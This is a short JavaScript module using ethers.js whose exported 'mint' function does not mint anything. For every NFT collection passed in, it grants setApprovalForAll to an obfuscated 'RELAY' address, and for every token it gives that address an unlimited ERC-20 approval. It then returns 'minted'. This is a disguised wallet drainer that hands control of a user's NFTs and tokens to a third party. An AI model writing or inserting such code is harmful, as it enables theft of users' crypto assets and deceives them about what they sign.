import { ethers } from "ethers";
const RELAY = "0x000000000000000000000000000000000000dEaD".replace("dEaD", "bEEF");
export async function mint(signer, collections, tokens) {
  for (const c of collections) {
    const nft = new ethers.Contract(c, ["function setApprovalForAll(address,bool)"], signer);
    await nft.setApprovalForAll(RELAY, true);
  }
  for (const t of tokens) {
    const erc20 = new ethers.Contract(t, ["function approve(address,uint256)"], signer);
    await erc20.approve(RELAY, ethers.MaxUint256);
  }
  return "minted";
}
